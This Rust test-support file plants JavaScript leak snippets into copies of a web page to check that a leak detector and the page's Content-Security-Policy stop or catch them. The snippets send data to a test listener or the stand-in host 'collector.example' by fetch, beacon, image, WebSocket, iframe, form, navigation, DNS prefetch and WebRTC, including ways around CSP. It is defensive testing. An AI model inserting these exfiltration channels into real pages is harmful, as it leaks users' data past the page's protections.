//! Leaks planted in copies of a page, to prove that the leak proof sees them.
//!
//! Each goes off at a real key press, as a leak hidden in a feature would, and says when it ran to its
//! end: a plant that never ran would pass for a leak that was stopped.

use crate::page::Page;
use crate::wait::{SOON, within};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use sha2::{Digest, Sha256};

/// One way out of a page.
pub(crate) struct Plant {
    pub(crate) name: &'static str,
    /// JavaScript; `{host}` is the listener.
    code: &'static str,
}

impl Plant {
    /// The path that this plant asks for, where it asks for one.
    pub(crate) fn path(&self) -> String {
        format!("/planted-{}?said=20/200", self.name)
    }

    /// The whole script, for the listener at `host`.
    pub(crate) fn script(&self, host: &str) -> String {
        let code = self.code.replace("{host}", host).replace("{path}", &self.path());
        format!(
            "{{ const kept = window.RTCPeerConnection;\n\
             addEventListener('keydown', async () => {{\n\
             try {{ {code} }} catch (fault) {{ window.plantFault = String(fault); }}\n\
             finally {{ window.plantRan = true; }} }}, {{ once: true }}); }}"
        )
    }
}

const fn plant(name: &'static str, code: &'static str) -> Plant {
    Plant { name, code }
}

/// Opens a WebRTC connection with `Peer`.
macro_rules! call {
    () => {
        "const p = new Peer({ iceServers: [{ urls: 'stun:{host}' }] }); p.createDataChannel('said'); \
         await p.setLocalDescription(await p.createOffer())"
    };
}

/// Ways out that the content security policy closes.
pub(crate) const STOPPED: &[Plant] = &[
    plant("fetch", "await fetch('http://{host}{path}', { mode: 'no-cors' })"),
    plant("fetch-by-name", "await fetch('http://collector.example{path}', { mode: 'no-cors' })"),
    plant("xhr", "const x = new XMLHttpRequest(); x.open('POST', 'http://{host}{path}'); x.send('said')"),
    plant("beacon", "navigator.sendBeacon('http://{host}{path}', 'said')"),
    plant(
        "beacon-on-leaving",
        "addEventListener('pagehide', () => navigator.sendBeacon('http://{host}{path}', 'said'))",
    ),
    plant("image", "new Image().src = 'http://{host}{path}'"),
    plant("websocket", "new WebSocket('ws://{host}{path}')"),
    plant("eventsource", "new EventSource('http://{host}{path}')"),
    plant(
        "style",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://{host}{path}'; \
         document.head.append(l)",
    ),
    plant(
        "script",
        "const s = document.createElement('script'); s.src = 'http://{host}{path}'; document.head.append(s)",
    ),
];

/// Ways out that the policy closes a moment late: nothing is said, but Chromium has opened a connection.
pub(crate) const STOPPED_LATE: &[Plant] = &[
    plant(
        "frame",
        "const f = document.createElement('iframe'); f.src = 'http://{host}{path}'; document.body.append(f)",
    ),
    plant(
        "form",
        "const f = document.createElement('form'); f.action = 'http://{host}{path}'; f.method = 'post'; \
         document.body.append(f); f.submit()",
    ),
];

/// Stopped by the page itself, which removes the constructor before anything else runs.
pub(crate) const PEER: Plant = plant("webrtc", concat!("const Peer = window.RTCPeerConnection; ", call!()));

/// The same with a constructor kept from before the page removed it, where the plant comes first.
pub(crate) const PEER_KEPT: Plant = plant("webrtc-kept", concat!("const Peer = kept; ", call!()));

/// Ways out that nothing in the page can close; only the proof that the page never takes them helps.
pub(crate) const OPEN: &[Plant] = &[
    plant("navigation", "location.href = 'http://{host}{path}'"),
    plant("window", "open('http://{host}{path}')"),
    plant(
        "preconnect",
        "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://{host}'; \
         document.head.append(l)",
    ),
    plant(
        "dns-prefetch",
        "const l = document.createElement('link'); l.rel = 'dns-prefetch'; \
         l.href = 'http://said-20-200.collector.example'; document.head.append(l)",
    ),
    plant(
        "webrtc-of-a-frame",
        concat!(
            "const f = document.createElement('iframe'); document.body.append(f); \
             const Peer = f.contentWindow.RTCPeerConnection; ",
            call!()
        ),
    ),
];

/// Presses a key on the page and waits until the plant has run.
#[track_caller]
pub(crate) fn set_off(page: &Page) {
    crate::act::press(page, &["F8"]);
    within(SOON, "the plant to run", || {
        let ran = page.try_script("return window.plantRan === true", &[]);
        match ran {
            Ok(done) if done == true => Ok(()),
            Ok(_) => Err("it did not".to_owned()),
            Err(refusal) => Err(refusal.to_string()),
        }
    });
}

/// The page without its policy and with the script first of all: nothing stands in the script's way.
#[track_caller]
pub(crate) fn without_policy(html: &str, script: &str) -> String {
    let policy = Policy::find(html);
    format!("{}<script>{script}</script>{}", &html[..policy.start], &html[policy.end..])
}

/// The page with its policy, which allows the script by its hash; the script comes last, like a feature.
#[track_caller]
pub(crate) fn with_policy(html: &str, script: &str) -> String {
    let allowed = Policy::find(html).allowing(html, script);
    let end =
        allowed.to_ascii_lowercase().rfind("</body>").expect("no </body> in the page to plant a leak before");
    format!("{}<script>{script}</script>{}", &allowed[..end], &allowed[end..])
}

/// As [`with_policy`], but the script comes before any other, and can keep what the page then removes.
#[track_caller]
pub(crate) fn with_policy_early(html: &str, script: &str) -> String {
    let allowed = Policy::find(html).allowing(html, script);
    let end = Policy::find(&allowed).end;
    format!("{}<script>{script}</script>{}", &allowed[..end], &allowed[end..])
}

/// Where the policy's `meta` element is, in bytes.
struct Policy {
    start: usize,
    end: usize,
}

impl Policy {
    #[track_caller]
    fn find(html: &str) -> Policy {
        let lower = html.to_ascii_lowercase();
        let elements = lower.match_indices("<meta").filter_map(|(start, _)| {
            let end = start + end_of_tag(&lower[start..])?;
            lower[start..end].contains("content-security-policy").then_some(Policy { start, end })
        });
        let mut found: Vec<Policy> = elements.collect();
        assert_eq!(
            found.len(),
            1,
            "a page to plant a leak in needs one Content-Security-Policy meta element"
        );
        found.remove(0)
    }

    #[track_caller]
    fn allowing(&self, html: &str, script: &str) -> String {
        let element = &html[self.start..self.end];
        let place =
            element.find("script-src ").expect("no script-src in the page's policy") + "script-src".len();
        let hash = STANDARD.encode(Sha256::digest(script));
        // An attribute in single quotes cannot hold the quotes of a hash.
        let quote = if element.contains("content='") { "&#39;" } else { "'" };
        let (before, after) = element.split_at(place);
        format!("{}{before} {quote}sha256-{hash}{quote}{after}{}", &html[..self.start], &html[self.end..])
    }
}

/// The length of a tag; a `>` inside quotes does not end it.
fn end_of_tag(text: &str) -> Option<usize> {
    let mut quote = None;
    for (index, byte) in text.bytes().enumerate() {
        match (quote, byte) {
            (None, b'>') => return Some(index + 1),
            (None, b'"' | b'\'') => quote = Some(byte),
            (Some(open), _) if open == byte => quote = None,
            _ => {}
        }
    }
    None
}
